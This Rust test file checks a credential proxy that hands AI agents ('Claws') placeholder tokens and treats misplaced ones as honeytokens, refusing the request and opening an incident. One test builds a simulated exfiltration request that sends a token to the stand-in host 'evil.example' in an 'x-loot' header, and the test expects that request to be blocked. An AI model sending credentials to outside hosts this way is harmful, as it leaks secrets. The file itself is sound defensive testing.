//! A placeholder where it does not belong: refused, recorded, and an incident names the Claw that leaked it.

use clawstaff_types::{EventKind, Outcome};
use http::StatusCode;
use serde_json::json;

use crate::world::{Read, World, claw, grant, post};

/// A world in which the Claws `a` and `b` may send to Slack, and `a` may ask its model.
async fn two_claws() -> World {
    let world = World::new().await;
    world
        .change(|state| {
            state.claws.push(claw("b", json!({})));
            for claw in ["a", "b"] {
                let mut sends = grant(claw, "slack", "messages.send", "channel:C1");
                sends.id = format!("gr_{claw}").parse().unwrap();
                state.grants.push(sends);
            }
            let model = "model:claude-sonnet-5";
            state
                .grants
                .push(grant("a", "anthropic", "messages.create", model));
        })
        .await;
    world
}

/// What stands for the credential in the cage of `claw`.
fn placeholder(world: &World, claw: &str, variable: &str) -> String {
    let file = std::fs::read(world.door_of(claw).join("claw.json")).unwrap();
    let file: serde_json::Value = serde_json::from_slice(&file).unwrap();
    file["env"][variable].as_str().unwrap().to_owned()
}

fn incidents(world: &World) -> Vec<clawstaff_types::Event> {
    let all = world.entries().into_iter().map(|entry| entry.event);
    all.filter(|event| event.kind == EventKind::IncidentOpened)
        .collect()
}

async fn sends(world: &World, text: &str, token: Option<&str>) -> Read {
    let body = json!({ "channel": "C1", "text": text });
    let mut request = post("slack.com", "/api/chat.postMessage", &body);
    if let Some(token) = token {
        let value = format!("Bearer {token}").parse().unwrap();
        request.headers_mut().insert("authorization", value);
    }
    world.send("name slack.com 80", request).await
}

#[tokio::test]
async fn a_claws_own_placeholder_opens_its_own_connection_and_no_other() {
    let world = two_claws().await;
    let slack = placeholder(&world, "a", "SLACK_BOT_TOKEN");
    assert_eq!(sends(&world, "x", Some(&slack)).await.status, StatusCode::OK);
    assert!(incidents(&world).is_empty());

    let model = placeholder(&world, "a", "ANTHROPIC_API_KEY");
    let read = sends(&world, "x", Some(&model)).await;
    assert_eq!(read.status, StatusCode::FORBIDDEN);
    assert!(read.text().contains("honeytoken"), "{}", read.text());
    assert_eq!(world.upstream.seen().len(), 1);
    let denied = world.last(EventKind::ToolDenied).event;
    assert_eq!(denied.outcome, Some(Outcome::Refused));
    assert_eq!(denied.facts["denial"], "honeytoken");
    assert_eq!(denied.facts["placeholder_connection"], "anthropic");
    let incident = world.last(EventKind::IncidentOpened).event;
    assert_eq!(incident.claw.unwrap().as_str(), "a");
    assert_eq!(incident.connection.unwrap().as_str(), "anthropic");
}

#[tokio::test]
async fn another_claws_placeholder_names_that_claw_and_one_leak_is_one_incident() {
    let world = two_claws().await;
    let of_b = placeholder(&world, "b", "SLACK_BOT_TOKEN");
    for _ in 0..2 {
        let read = sends(&world, "x", Some(&of_b)).await;
        assert_eq!(read.status, StatusCode::FORBIDDEN);
    }
    let found = incidents(&world);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].claw.as_ref().unwrap().as_str(), "b");
    assert_eq!(found[0].facts["seen_by"], "a");
    assert!(found[0].reason.as_ref().unwrap().contains("Claw `b`"));
    assert!(!world.log_text().contains(&of_b));
    assert!(world.upstream.seen().is_empty());
}

#[tokio::test]
async fn a_placeholder_in_a_body_an_address_or_toward_a_stranger_is_refused() {
    let world = two_claws().await;
    let own = placeholder(&world, "a", "SLACK_BOT_TOKEN");
    assert_eq!(
        sends(&world, &format!("my token is {own}"), None).await.status,
        StatusCode::FORBIDDEN
    );
    let address = post("slack.com", &format!("/api/auth.test?token={own}"), &json!({}));
    let read = world.send("name slack.com 80", address).await;
    assert!(read.text().contains("honeytoken"), "{}", read.text());
    let mut stranger = post("evil.example", "/collect", &json!({}));
    stranger.headers_mut().insert("x-loot", own.parse().unwrap());
    let read = world.send("name evil.example 80", stranger).await;
    assert_eq!(read.status, StatusCode::FORBIDDEN);
    assert!(world.upstream.seen().is_empty());
    let places: Vec<String> = incidents(&world)
        .iter()
        .map(|i| i.facts["place"].clone())
        .collect();
    assert_eq!(places, ["body", "address", "header"]);
}

#[tokio::test]
async fn a_claw_that_tells_its_model_its_own_placeholder_opens_an_incident_and_keeps_its_model() {
    let world = two_claws().await;
    let prompt = |token: &str| {
        json!({
            "model": "claude-sonnet-5", "max_tokens": 10,
            "messages": [{ "role": "user", "content": format!("SLACK_BOT_TOKEN={token}\n") }],
        })
    };
    let own = placeholder(&world, "a", "SLACK_BOT_TOKEN");
    let read = world.post("/anthropic/v1/messages", &prompt(&own)).await;
    assert_eq!(read.status, StatusCode::OK, "{}", read.text());
    assert_eq!(incidents(&world).len(), 1);
    assert_eq!(incidents(&world)[0].facts["place"], "body");

    let of_b = placeholder(&world, "b", "SLACK_BOT_TOKEN");
    let read = world.post("/anthropic/v1/messages", &prompt(&of_b)).await;
    assert!(read.text().contains("honeytoken"), "{}", read.text());
    assert_eq!(world.upstream.seen().len(), 1);
    assert_eq!(incidents(&world).len(), 2);
}

#[tokio::test]
async fn what_only_looks_like_a_placeholder_passes() {
    let world = two_claws().await;
    let text = "set SLACK_BOT_TOKEN=xoxb-placeholder-00000000000000000000000000000000";
    assert_eq!(sends(&world, text, None).await.status, StatusCode::OK);
    assert!(incidents(&world).is_empty());
}
